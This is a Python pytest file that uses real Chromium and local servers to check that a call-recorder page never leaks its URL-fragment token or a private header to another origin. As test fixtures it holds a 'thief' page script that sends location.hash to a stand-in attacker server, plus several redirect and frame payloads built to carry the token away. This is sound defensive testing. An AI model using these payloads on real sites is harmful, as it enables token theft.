"""Who is asked, and what goes along: no page of another origin gets the call page's address, nobody else the header.

A real Chromium and two real sites. The other site's page does what a thief's would: its script reads the address, with
its fragment, and sends it home. All is looked at where it would arrive.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable

import attrs
import pytest
import pytest_asyncio
from aiohttp import web

from recorder_fsm.browser.call_page import CallPage
from recorder_fsm.errors import CallError
from tests.browser_stage import Held, eventually, held
from tests.programs import until

pytestmark = pytest.mark.asyncio(loop_scope="module")

TOKEN = "the-token-of-the-job"
THIEF = """<!doctype html><title>thief</title><script>
fetch("/stolen?" + encodeURIComponent(location.hash));
window.__recorderFsmTell?.('{"kind": "close"}'); parent.postMessage("spoken", "*");</script>"""
Answers = Callable[[], Awaitable[web.StreamResponse]]


@attrs.define
class Thief:
    """Another server: another origin, though for cookies and processes the same site as ours."""

    origin: str
    seen: list[tuple[str, str]]
    """Each request: its path and its recorder's header."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def thief() -> AsyncIterator[Thief]:
    there = Thief("", [])

    async def answer(request: web.Request) -> web.Response:
        there.seen.append((request.path_qs, request.headers.get("X-Calls-Recorder", "")))
        headers = {"Access-Control-Allow-Origin": "*"}
        return web.Response(text=THIEF, content_type="text/html", headers=headers)

    app = web.Application()
    app.add_routes([web.get("/{path:.*}", answer), web.post("/{path:.*}", answer)])
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    listener = web.TCPSite(runner, "127.0.0.1", 0)
    await listener.start()
    there.origin = f"http://127.0.0.1:{runner.addresses[0][1]}"
    yield there
    await runner.cleanup()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared() -> AsyncIterator[Held]:
    async with held() as all_of_it:
        yield all_of_it


@pytest_asyncio.fixture(loop_scope="module")
async def it(shared: Held, thief: Thief) -> Held:
    shared.site.pages.clear()
    await shared.load("/")
    thief.seen.clear()
    shared.site.asked.clear()
    shared.told.clear()
    return shared


def leads(location: str, status: int = 302) -> Answers:
    async def answer() -> web.StreamResponse:
        return web.Response(status=status, headers={"Location": location})

    return answer


def shows(page: str, headers: dict[str, str] | None = None) -> Answers:
    async def answer() -> web.StreamResponse:
        return web.Response(text=f"<!doctype html>{page}", content_type="text/html", headers=headers)

    return answer


async def go(it: Held) -> object:
    return await it.tab.load(f"{it.site.origin}/call#{TOKEN}", 5)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("host", ["{thief}", "{other}"], ids=["another port", "another name"])
async def test_redirect_to_another_origin_is_refused_before_it_is_asked(
    it: Held, thief: Thief, status: int, host: str
) -> None:
    """A browser takes the fragment along; what is refused is told with its origin, and the next load works."""
    other = host.format(thief=thief.origin, other=it.site.other)
    it.site.pages["/call"] = leads(f"{other}/login?next=call", status)
    answer = await it.tab.load(f"{it.site.origin}/call#{TOKEN}", 5)
    assert (answer.elsewhere, answer.foreign, answer.good, answer.final) == (other, True, False, False)
    assert f"leads to {other}, which is not the address in SITE_URL" in answer.describe()
    assert TOKEN not in answer.describe()
    it.site.pages["/call"] = shows("here")
    assert (await it.tab.load(f"{it.site.origin}/call#{TOKEN}", 5)).good
    assert thief.seen == []
    assert it.site.asked == ["/call", "/call"]


async def test_redirect_by_way_of_the_site_itself_is_followed_to_its_edge(it: Held, thief: Thief) -> None:
    """One step within the site is the site's; the next one leads away, and is not made."""
    it.site.pages["/call"] = leads("/step")
    it.site.pages["/step"] = leads(f"{thief.origin}/login")
    assert (await it.tab.load(f"{it.site.origin}/call#{TOKEN}", 5)).elsewhere == thief.origin
    assert it.site.asked == ["/call", "/step"]
    it.site.pages["/step"] = shows("here")
    answer = await it.tab.load(f"{it.site.origin}/call#{TOKEN}", 5)
    assert (answer.elsewhere, answer.status) == ("/step", 200)
    assert thief.seen == []


WAYS = {
    "meta refresh": ('<meta http-equiv="refresh" content="0;url={thief}/login">', None),
    "Refresh": ("", {"Refresh": "0;url={thief}/login"}),
    "a script": ("<script>location.replace('{thief}/login' + location.hash)</script>", None),
    "a form": ("<form method=post action='{thief}/login'></form><script>document.forms[0].submit()</script>", None),
    "a link": ("<a id=away href='{thief}/login'></a><script>away.href += location.hash; away.click()</script>", None),
    "a frame": (
        "<iframe srcdoc=\"<script>top.location = '{thief}/login' + top.location.hash</script>\"></iframe>",
        None,
    ),
}


@pytest.mark.parametrize("way", WAYS)
async def test_page_that_leads_away_by_itself_is_kept(it: Held, thief: Thief, way: str) -> None:
    """Whatever it uses: the other site is not asked, and what is on the screen stays."""
    page, headers = WAYS[way]
    headers = {name: value.format(thief=thief.origin) for name, value in (headers or {}).items()}
    it.site.pages["/call"] = shows("<p id=here>" + page.replace("{thief}", thief.origin), headers)
    await go(it)
    await until(lambda: it.tab.loading.led_to, 10)
    assert it.tab.loading.led_to == thief.origin
    assert await it.evaluate("Boolean(document.querySelector('#here')) && location.hash") == f"#{TOKEN}"
    assert thief.seen == []


async def test_page_that_leads_away_cannot_join_and_the_cause_names_where(it: Held, thief: Thief) -> None:
    """With what to do about it."""
    for page in (leads(f"{thief.origin}/login"), shows(f"<script>location = '{thief.origin}/login'</script>")):
        it.site.pages["/call"] = page
        call = CallPage(it.tab, 640, 480, lambda _: None)
        with pytest.raises(CallError) as caught:
            await call.join(f"{it.site.origin}/call#{TOKEN}", 2.5)
        assert caught.value.code == "page_elsewhere"
        assert thief.origin in caught.value.detail
        assert "SITE_URL must be the address at which Mattermost itself answers" in caught.value.detail
        assert TOKEN not in str(caught.value)
    assert thief.seen == []


async def test_window_that_the_page_opens_loads_nothing(it: Held, thief: Thief) -> None:
    """Neither from elsewhere nor from the site: its address may have the token, and no script in it can speak."""
    it.site.pages["/call"] = shows("here")
    await go(it)
    it.site.asked.clear()
    for where in (f"{thief.origin}/login", "/window"):
        link = f"const link = document.createElement('a'); link.href = '{where}' + location.hash; link.target = 'new'"
        await it.session.call("Runtime.evaluate", {"expression": f"{link}; link.click(); 1", "userGesture": True})

    async def is_alone() -> bool:
        targets = await it.devtools.root.call("Target.getTargets")
        return len([one for one in targets["targetInfos"] if one["type"] == "page"]) == 1

    await eventually(is_alone)
    assert it.site.asked == []
    assert thief.seen == []


async def test_frames_fetches_and_workers_pass_without_the_header(it: Held, thief: Thief) -> None:
    """They take no fragment along. The header is for the site alone, also where a frame has a process of its own."""
    await it.evaluate(f"""new Promise((done) => {{
        const frame = document.createElement('iframe'); frame.src = '{thief.origin}/frame'; frame.onload = done;
        document.body.append(frame); }})""")
    await it.evaluate(f"fetch('{thief.origin}/fetch').then(() => 1)")
    script = f"fetch('{thief.origin}/worker').then(() => postMessage(1))"
    await it.evaluate(f"""new Promise((done) => {{
        new Worker(URL.createObjectURL(new Blob([`{script}`]))).onmessage = done; }})""")
    await until(lambda: len(thief.seen) == 4, 10)
    assert sorted(thief.seen) == [("/fetch", ""), ("/frame", ""), ("/stolen", ""), ("/worker", "")]
    assert await it.evaluate("ask()") == "true"
    script = f"fetch('{it.site.origin}/echo').then((it) => it.text()).then(postMessage)"
    heard = await it.evaluate(f"""new Promise((done) => {{
        new Worker(URL.createObjectURL(new Blob([`{script}`]))).onmessage = (event) => done(event.data); }})""")
    assert heard == "true"


async def test_redirect_of_a_script_loses_the_header(it: Held, thief: Thief) -> None:
    """As every request that is led away."""
    it.site.pages["/script.js"] = leads(f"{thief.origin}/script.js")
    await it.evaluate("fetch('/script.js').then(() => 1)")
    assert thief.seen == [("/script.js", "")]


# --- whose words are taken --------------------------------------------------------------------------------------------

CALL = "window.__recorderFsmTell?.(JSON.stringify({kind: 'close', detail: null, at: 1}));"
TALK = f"<script>{CALL} parent.postMessage('spoken', '*')</script>"
FRAMES = {
    "another port": "<iframe src='{thief}/frame'></iframe>",
    "another name": "<iframe src='{other}/talk'></iframe>",
    "the site": "<iframe src=/talk></iframe>",
    "in the page": f'<iframe srcdoc="{TALK}"></iframe>',
    "without an origin": "<iframe sandbox=allow-scripts src=/talk></iframe>",
    "empty": f"<iframe name=it></iframe><script>it.eval(`{CALL}`); spoken = 1</script>",
}


@pytest.mark.parametrize("kind", FRAMES)
async def test_only_the_call_page_can_end_the_recording(it: Held, thief: Thief, kind: str) -> None:
    """A frame has the binding, whatever its origin is, and is not listened to; the page itself is."""
    it.site.pages["/talk"] = shows(TALK)
    frame = FRAMES[kind].replace("{thief}", thief.origin).replace("{other}", it.site.other)
    it.site.pages["/call"] = shows(f"<script>window.spoken = 0; onmessage = () => spoken++</script>{frame}")
    await go(it)
    await it.complete()

    async def has_spoken() -> object:
        return await it.evaluate("spoken")

    await eventually(has_spoken)
    await it.evaluate("__recorderFsmTell(JSON.stringify({kind: 'mine', detail: null, at: 1}))")
    await it.hear("mine")
